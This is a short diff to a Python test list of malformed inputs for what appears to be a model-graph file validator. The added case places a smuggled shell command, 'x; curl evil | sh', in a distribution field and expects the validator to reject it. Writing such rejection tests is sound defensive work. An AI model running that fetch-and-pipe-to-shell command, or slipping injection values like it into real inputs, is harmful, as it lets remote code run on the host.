@@ -321,6 +321,8 @@ BAD_EDITS: list[tuple[str, Callable[[dict[str, Any]], Any], str]] = [
      "nested deeper than 64"),
     ("member outside tensors/", lambda d: d["variables"][0].update(data="graph.json"), "must name a member 'tensors/"),
     ("missing member", lambda d: d["variables"][0].update(data="tensors/none.npy"), "no member 'tensors/none.npy'"),
+    ("shell in distribution", lambda d: d["ops"]["Relu"]["provider"].update(distribution="x; curl evil | sh"),
+     "'x; curl evil | sh' is not a valid distribution name"),
     ("extra key", lambda d: _node(d, 0).update(code="import os"), "unknown key 'code'"),
     ("bool as index", lambda d: _node(d, 2)["inputs"].__setitem__(0, ["node", True, 0]), "must be an integer"),
 ]
